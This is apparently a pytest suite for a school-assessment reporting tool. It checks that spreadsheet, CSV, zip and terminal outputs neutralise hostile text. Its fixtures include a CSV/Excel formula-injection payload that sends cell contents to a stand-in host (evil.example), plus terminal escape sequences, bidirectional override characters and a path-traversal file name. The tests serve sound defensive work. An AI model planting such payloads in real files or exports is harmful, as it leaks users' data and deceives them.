"""Hostile text in every file the project writes: formulas stay text, control characters never break an
export, CSV fields are neutralised, zip members can be unpacked, the terminal sees no escape sequences."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from dataclasses import replace
from datetime import date

import openpyxl
import pytest
from sqlalchemy import create_engine, update
from sqlalchemy.orm import Session

from loaders import verification
from loaders.annotate import LIST_SHEET, annotate
from loaders.inspection import read_inspection
from loaders.layout import ITEMS
from loaders.problems import note
from loaders.province_summary import SummaryRow, province_summary
from loaders.template import fill_template
from loaders.verification_sheet import verification_batch, verification_sheet
from loaders.workbook import read_workbook
from reformboard.cli import main
from reformboard.reminders import notice_file_name
from tenants.models import ReportItem, Tenant
from tests.fixtures.cli import score_json
from tests.fixtures.verification import RULEBOOK, wust_entry
from tests.fixtures.workbooks import TODAY
from tests.fixtures.wust import wust_report
from tests.test_inspection import SIGNATURE_ROW, filled

HYPERLINK = '=HYPERLINK("http://evil.example/steal?"&A1,"点击查看佐证材料")'
FORMULA_LIKE = ["=1+1", HYPERLINK, " =1+1", "\t=1+1", "\r=1+1", "+1+1", "-1+1", "@SUM(A1)", "#N/A"]
EVIDENCE_ROW = verification.item_row([item.id for item in RULEBOOK.items].index("3.1"))
EVIDENCE_COLUMN = 5  # 佐证材料


def with_evidence(text: str, item_id: str = "3.1"):
    report = wust_report()
    return replace(report, items=tuple(replace(i, evidence=text) if i.item_id == item_id else i for i in report.items))


def sheet_of(entry, rulebook=RULEBOOK) -> openpyxl.Workbook:
    data = verification_sheet(entry.context, rulebook, entry.report, entry.assessment)
    return openpyxl.load_workbook(io.BytesIO(data))


def strings(ws) -> dict[str, tuple[object, str]]:
    return {c.coordinate: (c.value, c.data_type) for row in ws.iter_rows() for c in row if c.value is not None}


# --- 1. formula injection -------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_a_schools_evidence_is_written_into_the_verification_sheet_as_text(text):
    entry = replace(wust_entry(), report=with_evidence(text))
    cell = sheet_of(entry)[verification.SHEET].cell(EVIDENCE_ROW, EVIDENCE_COLUMN)

    assert (cell.value, cell.data_type) == (text.strip(), "s")


def test_a_school_name_like_a_formula_is_text_in_the_sheet_its_metadata_and_the_batch_index():
    entry = wust_entry()
    entry = replace(entry, context=replace(entry.context, school_name=HYPERLINK, unit="@SUM(A1)"))
    book = sheet_of(entry)
    written = [*strings(book[verification.SHEET]).values(), *strings(book[verification.META_SHEET]).values()]
    assert any(value == HYPERLINK for value, _ in written)
    assert {data_type for value, data_type in written if isinstance(value, str)} == {"s"}

    batch = zipfile.ZipFile(io.BytesIO(verification_batch(RULEBOOK, [entry])))
    index = strings(openpyxl.load_workbook(io.BytesIO(batch.read("索引.xlsx")))["索引"])
    assert index["C2"] == (HYPERLINK, "s") and index["D2"] == ("@SUM(A1)", "s")


def test_school_and_unit_names_like_formulas_are_text_in_the_province_summary():
    rows = [SummaryRow("4144010001", "=1+1", "+2", None), SummaryRow("4144010002", HYPERLINK, "-3", None)]
    book = openpyxl.load_workbook(io.BytesIO(province_summary(RULEBOOK, RULEBOOK.campaign, rows)))
    schools, counts = strings(book.worksheets[0]), strings(book.worksheets[1])

    assert [schools[f"C{r}"] for r in (4, 5)] == [("=1+1", "s"), (HYPERLINK, "s")]
    assert [schools[f"D{r}"] for r in (4, 5)] == [("+2", "s"), ("-3", "s")]
    assert {("+2", "s"), ("-3", "s")} <= set(counts.values())  # the per-unit table


def test_a_formula_in_a_filled_template_is_text():
    data = fill_template(with_evidence("=1+1"), RULEBOOK, RULEBOOK.campaign)
    ws = openpyxl.load_workbook(io.BytesIO(data))[ITEMS.name]

    assert [(c.value, c.data_type) for row in ws.iter_rows() for c in row if c.value == "=1+1"] == [("=1+1", "s")]


def ods(texts: list[str]) -> bytes:
    """A one-column OpenDocument spreadsheet: an upload that annotate() rebuilds cell by cell."""
    rows = "".join(
        '<table:table-row><table:table-cell office:value-type="string">'
        f"<text:p>{t}</text:p></table:table-cell></table:table-row>"
        for t in texts
    )
    office = "urn:oasis:names:tc:opendocument:xmlns"
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="{office}:office:1.0" '
        f'xmlns:table="{office}:table:1.0" xmlns:text="{office}:text:1.0" office:version="1.2">'
        f'<office:body><office:spreadsheet><table:table table:name="学校信息">{rows}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        f'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="{office}:manifest:1.0" '
        'manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("META-INF/manifest.xml", manifest)
        archive.writestr("content.xml", content)
    return buffer.getvalue()


def test_an_annotated_copy_rebuilt_from_an_ods_keeps_formulas_as_text():
    out = annotate(ods(["=1+1", "@SUM(A1)"]), [note("x", sheet="学校信息", cell="A1")])
    ws = openpyxl.load_workbook(io.BytesIO(out))["学校信息"]

    assert strings(ws) == {"A1": ("=1+1", "s"), "A2": ("@SUM(A1)", "s")}


# --- 2. control characters: stripped on the way in, harmless on the way out -----------------------


def upload_with_evidence(raw: bytes) -> bytes:
    """The filled template with item 3.1's evidence cell holding `raw` as written in the sheet's XML."""
    data = fill_template(with_evidence("MARKER"), RULEBOOK, RULEBOOK.campaign)
    source, buffer = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in source.namelist():
            archive.writestr(name, source.read(name).replace(b"MARKER", raw))
    return buffer.getvalue()


@pytest.mark.parametrize(
    "raw",
    [b"A\x01B", b"A&#1;B", b"A_x0001_B", b"A\x1b[31mB\xc2\x9b"],
    ids=["raw-byte", "character-reference", "excel-escape", "terminal-escape"],
)
def test_control_characters_in_an_upload_are_removed_with_a_note_naming_the_cell(raw):
    result = read_workbook(upload_with_evidence(raw), "x.xlsx", RULEBOOK, today=TODAY)

    evidence = result.report.item("3.1").evidence
    assert evidence.startswith("A") and evidence.endswith("B") and evidence.isprintable()
    notes = [p for p in result.problems if "控制字符" in p.message]
    assert [(p.severity.value, p.sheet, p.cell, p.field) for p in notes] == [("提示", ITEMS.name, "G9", "佐证材料")]


def test_control_characters_typed_by_inspectors_are_removed_with_a_note_naming_the_cell():
    entry = wust_entry()
    sheet = verification_sheet(entry.context, RULEBOOK, entry.report, entry.assessment)
    result = read_inspection(filled(sheet, {"3.1": ("不符合", "现场\x7f查阅\u202e材料")}, inspectors="张\x85伟"))

    assert (result.results["3.1"].note, result.inspectors) == ("现场查阅材料", "张伟")
    notes = {(p.cell, p.field) for p in result.problems if "控制字符" in p.message}
    assert notes == {(f"H{EVIDENCE_ROW}", "核查说明"), (f"C{SIGNATURE_ROW}", "核查人")}


def test_writers_survive_control_characters_in_stored_text():
    entry = wust_entry()
    entry = replace(
        entry,
        report=with_evidence("佐证\x01材料\x1b"),
        context=replace(entry.context, school_name="某\x07大学\u202e", unit="单位\x00"),
    )
    ws = sheet_of(entry)[verification.SHEET]
    assert ws.cell(EVIDENCE_ROW, EVIDENCE_COLUMN).value == "佐证材料"
    assert "某大学" in ws.cell(1, 1).value

    batch = zipfile.ZipFile(io.BytesIO(verification_batch(RULEBOOK, [entry])))
    assert openpyxl.load_workbook(io.BytesIO(batch.read("索引.xlsx")))["索引"]["C2"].value == "某大学"
    summary = province_summary(RULEBOOK, RULEBOOK.campaign, [SummaryRow("4144010001", "某\x01大学", "单位\x02", None)])
    assert openpyxl.load_workbook(io.BytesIO(summary)).worksheets[0]["C4"].value == "某大学"
    copy = annotate(ods(["甲"]), [note("“乙\x01”有误", sheet="学校信息", cell="A1")])
    assert (
        openpyxl.load_workbook(io.BytesIO(copy))[LIST_SHEET]["C3"].value == "“乙”有误"
    )  # under the preface and the header


def test_zip_members_stay_short_enough_to_unpack(tmp_path):
    entry = wust_entry()
    long_name = "广东省某某职业技术学院继续教育学院" * 6  # 102 characters, 306 bytes in UTF-8
    entry = replace(entry, context=replace(entry.context, school_name=long_name))
    batch = zipfile.ZipFile(io.BytesIO(verification_batch(RULEBOOK, [entry])))

    assert max(len(name.encode()) for name in batch.namelist()) <= 255
    batch.extractall(tmp_path)  # the file system refuses a name over 255 bytes
    notice = notice_file_name("4144010001", long_name + "/../x", date(2020, 10, 31))
    assert len(notice.encode()) <= 255 and "/" not in notice


# --- through the command line, on both databases ---------------------------------------------------


def a_submitted_school(capsys) -> str:
    return next(s["tenant"] for s in score_json(capsys) if s["verdict"] != "未提交")


def tamper(db_url: str, code: str, name: str, evidence: str) -> None:
    """What an older version could store: a name and an upload's evidence with control characters."""
    engine = create_engine(db_url)
    with Session(engine) as session, session.begin():
        session.execute(update(Tenant).where(Tenant.code == code).values(name=name))
        session.execute(update(ReportItem).where(ReportItem.tenant_code == code).values(evidence=evidence))
    engine.dispose()


def test_one_schools_control_characters_do_not_block_the_provinces_exports(demo_db, tmp_path, capsys):
    code = a_submitted_school(capsys)
    tamper(demo_db, code, "控制\x01学院\x1b", "材料\x02")

    assert main(["export-sheets", "--all", "-o", str(tmp_path / "all.zip")]) == 0
    assert main(["export-sheets", "--tenant", code, "-o", str(tmp_path / "one.xlsx")]) == 0
    assert main(["export-summary", "-o", str(tmp_path / "summary.xlsx")]) == 0
    summary = openpyxl.load_workbook(tmp_path / "summary.xlsx").worksheets[0]
    assert "控制学院" in [c.value for c in summary["C"]]


def test_score_prints_no_terminal_escapes_and_neutralises_csv_fields(demo_db, capsys):
    code = a_submitted_school(capsys)
    tamper(demo_db, code, '=HYPERLINK("http://evil.example")\x1b[2J\u202e', "材料")

    for fmt in ("table", "csv", "json"):
        assert main(["score", "--format", fmt]) == 0
        out = capsys.readouterr().out
        assert "\x1b" not in out and "\u202e" not in out, fmt
    assert main(["score", "--format", "json"]) == 0
    assert "=HYPERLINK" in next(s["school"] for s in json.loads(capsys.readouterr().out) if s["tenant"] == code)
    assert main(["score", "--format", "csv"]) == 0
    rows = {row[0]: row for row in csv.reader(io.StringIO(capsys.readouterr().out))}
    assert rows[code][1].startswith("'=HYPERLINK")
